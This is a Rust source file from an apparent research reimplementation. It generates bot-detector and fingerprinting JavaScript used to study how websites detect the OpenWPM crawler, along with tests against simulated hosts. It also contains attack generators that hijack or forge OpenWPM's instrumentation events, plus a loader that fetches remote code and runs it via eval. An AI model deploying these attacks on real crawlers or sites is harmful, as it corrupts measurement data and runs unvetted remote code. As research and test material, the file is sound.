@@ -1,0 +1,372 @@
+//! The detector-script corpus.
+//!
+//! MiniJS sources for every class of bot detector the paper encounters in
+//! the wild (Sec. 4), parameterised by probing technique and obfuscation
+//! tier. The tiers map onto the analysis-method coverage the paper
+//! measures:
+//!
+//! * **Plain** probes — found by both static and dynamic analysis;
+//! * **Hex-escaped** probes — static analysis finds them only thanks to its
+//!   preprocessing (Appx. B);
+//! * **Constructed** probes (string concatenation / `fromCharCode`) —
+//!   invisible to static patterns, found only dynamically;
+//! * **Hover-gated** probes — present in the source but never executed
+//!   during an automated visit: static-only findings;
+//! * **Iterator** scripts — generic fingerprinting via property iteration;
+//!   they touch the fingerprint surface *incidentally* and are the false
+//!   positives the honey-property mechanism (Sec. 4.1.3) weeds out.
+
+/// How a detector reaches the `webdriver` / OpenWPM properties.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
+pub enum Technique {
+    /// `navigator.webdriver` — plain member access.
+    Plain,
+    /// `navigator['webdriver']` — indexed but literal.
+    Indexed,
+    /// `navigator['\x77\x65\x62...']` — hex-escaped literal; static
+    /// analysis recovers it after escape decoding.
+    HexEscaped,
+    /// `navigator['web' + 'driver']` — constructed at runtime; static
+    /// analysis cannot see it.
+    Constructed,
+    /// Probe exists but only fires on user interaction (hover); executed
+    /// never during an automated visit — static-only.
+    HoverGated,
+}
+
+impl Technique {
+    pub fn all() -> &'static [Technique] {
+        &[
+            Technique::Plain,
+            Technique::Indexed,
+            Technique::HexEscaped,
+            Technique::Constructed,
+            Technique::HoverGated,
+        ]
+    }
+
+    /// Expected analysis coverage (static, dynamic) for this technique —
+    /// the ground truth the analysis-validation tests check against.
+    pub fn expected_coverage(&self) -> (bool, bool) {
+        match self {
+            Technique::Plain | Technique::Indexed | Technique::HexEscaped => (true, true),
+            Technique::Constructed => (false, true),
+            Technique::HoverGated => (true, false),
+        }
+    }
+
+    /// The MiniJS expression reading `navigator.webdriver`.
+    fn webdriver_expr(&self) -> &'static str {
+        match self {
+            Technique::Plain => "navigator.webdriver",
+            Technique::Indexed => "navigator['webdriver']",
+            Technique::HexEscaped => r"navigator['\x77\x65\x62\x64\x72\x69\x76\x65\x72']",
+            // Hover-gated probes are plain (statically visible) — they are
+            // the "present but not executed" class.
+            Technique::Constructed => "navigator['web' + 'driver']",
+            Technique::HoverGated => "navigator.webdriver",
+        }
+    }
+}
+
+/// Build a Selenium/WebDriver detector that reports its verdict to
+/// `verdict_url` (query `bot=0|1` is appended).
+pub fn selenium_detector(technique: Technique, verdict_url: &str) -> String {
+    let expr = technique.webdriver_expr();
+    match technique {
+        Technique::HoverGated => format!(
+            r#"function __bdCheck() {{
+  var flag = {expr} === true ? 1 : 0;
+  navigator.sendBeacon('{verdict_url}?bot=' + flag);
+}}
+document.addEventListener('mouseover', function () {{ __bdCheck(); }});
+"#
+        ),
+        _ => format!(
+            r#"(function () {{
+  var flag = {expr} === true ? 1 : 0;
+  navigator.sendBeacon('{verdict_url}?bot=' + flag);
+}})();
+"#
+        ),
+    }
+}
+
+/// OpenWPM-specific property names probed in the wild (Table 6).
+pub const OPENWPM_PROPS: &[&str] =
+    &["getInstrumentJS", "instrumentFingerprintingApis", "jsInstruments"];
+
+/// Build an OpenWPM-specific detector probing the given window properties
+/// (per-provider mixes from Table 6) plus `toString` tampering.
+pub fn openwpm_detector(props: &[&str], technique: Technique, verdict_url: &str) -> String {
+    let mut checks = String::new();
+    for p in props {
+        let access = match technique {
+            Technique::Constructed => {
+                // Split the name so no static pattern can match it.
+                let (a, b) = p.split_at(p.len() / 2);
+                format!("window['{a}' + '{b}']")
+            }
+            _ => format!("window.{p}"),
+        };
+        checks.push_str(&format!("  if (typeof {access} !== 'undefined') {{ hits++; }}\n"));
+    }
+    format!(
+        r#"(function () {{
+  var hits = 0;
+{checks}  var ts = '' + document.createElement.toString();
+  if (ts.indexOf('[native code]') === -1) {{ hits++; }}
+  var flag = hits > 0 ? 1 : 0;
+  navigator.sendBeacon('{verdict_url}?bot=' + flag + '&owpm=' + flag);
+}})();
+"#
+    )
+}
+
+/// A first-party bot-management detector (Akamai/Incapsula/Cloudflare
+/// style): webdriver plus environment checks, verdict posted first-party.
+pub fn first_party_detector(verdict_path: &str) -> String {
+    format!(
+        r#"(function () {{
+  var score = 0;
+  if (navigator.webdriver === true) {{ score += 10; }}
+  if (screen.availTop === 0 && screen.availLeft === 0) {{ score += 2; }}
+  if (screen.width === 2560 && screen.height === 1440 && window.outerWidth === 1366) {{ score += 3; }}
+  var gl = document.createElement('canvas').getContext('webgl');
+  if (gl === null) {{ score += 3; }}
+  else {{
+    var vendor = '' + gl.getParameter(37445) + ' ' + gl.getParameter(37446);
+    if (vendor.indexOf('VMware') !== -1 || vendor.indexOf('llvmpipe') !== -1) {{ score += 3; }}
+  }}
+  navigator.sendBeacon('{verdict_path}?bot=' + (score >= 3 ? 1 : 0) + '&score=' + score);
+}})();
+"#
+    )
+}
+
+/// A generic fingerprinting script: iterates `navigator` and `window`
+/// (touching every honey property) and ships the fingerprint. Accesses the
+/// fingerprint surface but is *not* a bot detector.
+pub fn fingerprint_iterator(report_url: &str) -> String {
+    format!(
+        r#"(function () {{
+  var fp = '';
+  for (var k in navigator) {{ fp += k + ':' + navigator[k] + ';'; }}
+  var count = 0;
+  for (var w in window) {{
+    var v = window[w];
+    count++;
+  }}
+  navigator.sendBeacon('{report_url}?len=' + fp.length + '&n=' + count);
+}})();
+"#
+    )
+}
+
+/// A benign script that merely *mentions* webdriver in strings/comments —
+/// the false-positive class for naive static patterns (Appx. B).
+pub fn benign_webdriver_mention() -> String {
+    r#"// compatibility shim for selenium-webdriver test harnesses
+// docs: the word webdriver below is marketing copy, not a probe
+var config = { driverName: 'webdriver-manager', timeout: 30, note: 'works with any webdriver setup' };
+function setup(opts) {
+  var label = 'uses ' + config.driverName;
+  return label;
+}
+setup(config);
+"#
+    .to_owned()
+}
+
+/// A deep-probe detector exercising the iframe bypass: creates an iframe
+/// and reads the fingerprint surface through the *fresh* contentWindow,
+/// immediately (paper Listing 3's pattern).
+pub fn iframe_probe_detector(verdict_url: &str) -> String {
+    format!(
+        r#"setTimeout(function () {{
+  var element = document.querySelector('#unobserved');
+  var iframe = document.createElement('iframe');
+  iframe.src = 'unobserved-iframe.html';
+  element.appendChild(iframe);
+  var wd = iframe.contentWindow.navigator.webdriver;
+  var at = iframe.contentWindow.screen.availTop;
+  navigator.sendBeacon('{verdict_url}?bot=' + (wd === true ? 1 : 0) + '&via=iframe');
+}}, 500);
+"#
+    )
+}
+
+/// The dispatcher-hijack attack of paper Listing 2, adapted to synchronous
+/// MiniJS (no Promise): grabs the instrument's random event id, then
+/// swallows all instrument messages.
+pub fn dispatcher_hijack_attack() -> String {
+    r#"(function () {
+  var dispatch_fn = document.dispatchEvent;
+  var id = null;
+  // Step I: retrieve OpenWPM's random ID by intercepting one message.
+  document.dispatchEvent = function (event) {
+    id = event.type;
+    document.dispatchEvent = dispatch_fn;
+  };
+  navigator.userAgent;
+  // Step II: overwrite the event dispatcher to block instrument events.
+  if (id !== null) {
+    document.dispatchEvent = function (event) {
+      if (event.type !== id) { return dispatch_fn.call(document, event); }
+      return true; // swallowed
+    };
+  }
+  window.__owpmBlockedId = id;
+})();
+"#
+    .to_owned()
+}
+
+/// The fake-data injection attack (Sec. 5.2): after grabbing the event id,
+/// forge records attributed to an innocent script.
+pub fn fake_data_injection_attack(fake_script_url: &str) -> String {
+    format!(
+        r#"(function () {{
+  var dispatch_fn = document.dispatchEvent;
+  var id = null;
+  document.dispatchEvent = function (event) {{
+    id = event.type;
+    document.dispatchEvent = dispatch_fn;
+  }};
+  navigator.userAgent;
+  if (id !== null) {{
+    var fake = new CustomEvent(id, {{ detail: {{
+      symbol: 'window.navigator.injectedFakeSymbol',
+      operation: 'get',
+      value: 'forged',
+      callContext: 'innocent@{fake_script_url}:1'
+    }} }});
+    document.dispatchEvent(fake);
+  }}
+}})();
+"#
+    )
+}
+
+/// Silent JavaScript delivery (paper Listing 4 / Appx. D).
+pub fn silent_delivery_loader(payload_url: &str) -> String {
+    format!(
+        r#"var stealth_code = '{payload_url}';
+fetch(stealth_code)
+  .then(function (res) {{ return res.text(); }})
+  .then(function (res) {{ eval(res); }});
+"#
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use browser::{FingerprintProfile, Os, Page, RunMode};
+    use netsim::{ResourceType, Url};
+
+    fn run_on(profile: FingerprintProfile, src: &str) -> Vec<(String, String)> {
+        let mut page =
+            Page::new(profile, Url::parse("https://site.test/").unwrap(), None);
+        page.run_script(src, "https://bd.test/detect.js").unwrap();
+        page.advance(60_000);
+        page.traffic()
+            .iter()
+            .filter(|r| r.resource_type == ResourceType::Beacon)
+            .map(|r| (r.url.path.clone(), r.url.query.clone()))
+            .collect()
+    }
+
+    fn openwpm_profile() -> FingerprintProfile {
+        FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular)
+    }
+
+    #[test]
+    fn selenium_detector_flags_openwpm_not_stock() {
+        for t in [Technique::Plain, Technique::Indexed, Technique::HexEscaped, Technique::Constructed] {
+            let src = selenium_detector(t, "https://bd.test/v");
+            let beacons = run_on(openwpm_profile(), &src);
+            assert_eq!(beacons, vec![("/v".to_string(), "bot=1".to_string())], "{t:?}");
+            let beacons = run_on(FingerprintProfile::stock_firefox(Os::Ubuntu1804), &src);
+            assert_eq!(beacons, vec![("/v".to_string(), "bot=0".to_string())], "{t:?}");
+        }
+    }
+
+    #[test]
+    fn hover_gated_detector_never_fires_without_interaction() {
+        let src = selenium_detector(Technique::HoverGated, "https://bd.test/v");
+        let beacons = run_on(openwpm_profile(), &src);
+        assert!(beacons.is_empty());
+    }
+
+    #[test]
+    fn first_party_detector_scores_openwpm_geometry() {
+        let src = first_party_detector("https://site.test/akam/11/pixel");
+        let beacons = run_on(openwpm_profile(), &src);
+        assert_eq!(beacons.len(), 1);
+        assert!(beacons[0].1.starts_with("bot=1"), "query: {}", beacons[0].1);
+        let beacons = run_on(FingerprintProfile::stock_firefox(Os::Ubuntu1804), &src);
+        assert!(beacons[0].1.starts_with("bot=0"), "query: {}", beacons[0].1);
+    }
+
+    #[test]
+    fn first_party_detector_flags_headless_and_docker() {
+        for mode in [RunMode::Headless, RunMode::Xvfb, RunMode::Docker] {
+            let src = first_party_detector("https://site.test/v");
+            // Even with webdriver masked, environment gives these away.
+            let mut p = FingerprintProfile::openwpm(Os::Ubuntu1804, mode);
+            p.webdriver = false;
+            let beacons = run_on(p, &src);
+            assert!(beacons[0].1.starts_with("bot=1"), "mode {mode:?}: {}", beacons[0].1);
+        }
+    }
+
+    #[test]
+    fn iterator_reports_without_bot_verdict() {
+        let src = fingerprint_iterator("https://fp.test/collect");
+        let beacons = run_on(openwpm_profile(), &src);
+        assert_eq!(beacons.len(), 1);
+        assert!(!beacons[0].1.contains("bot="));
+    }
+
+    #[test]
+    fn canvas_fingerprinter_reports_but_is_not_a_detector() {
+        let src = canvas_fingerprinter("https://fp.test/cv");
+        let beacons = run_on(openwpm_profile(), &src);
+        assert_eq!(beacons.len(), 1);
+        assert!(!beacons[0].1.contains("bot="));
+        assert!(!crate::static_analysis::analyse(&src).is_detector());
+    }
+
+    #[test]
+    fn benign_script_runs_clean() {
+        let beacons = run_on(openwpm_profile(), &benign_webdriver_mention());
+        assert!(beacons.is_empty());
+    }
+
+    #[test]
+    fn iframe_probe_fires_after_timeout() {
+        let src = iframe_probe_detector("https://bd.test/v");
+        let beacons = run_on(openwpm_profile(), &src);
+        assert_eq!(beacons.len(), 1);
+        assert!(beacons[0].1.contains("via=iframe"));
+        assert!(beacons[0].1.starts_with("bot=1"));
+    }
+}
+
+/// A canvas-fingerprinting script (render-hash collection): accesses the
+/// canvas APIs OpenWPM instruments but draws no bot verdict — another
+/// benign-but-surface-touching class, like the iterator.
+pub fn canvas_fingerprinter(report_url: &str) -> String {
+    format!(
+        r#"(function () {{
+  var c = document.createElement('canvas');
+  var ctx = c.getContext('2d');
+  var hash = '' + c.toDataURL();
+  var gl = c.getContext('webgl');
+  var vendor = gl === null ? 'none' : ('' + gl.getParameter(37445));
+  navigator.sendBeacon('{report_url}?h=' + hash.length + '&v=' + vendor.length);
+}})();
+"#
+    )
+}
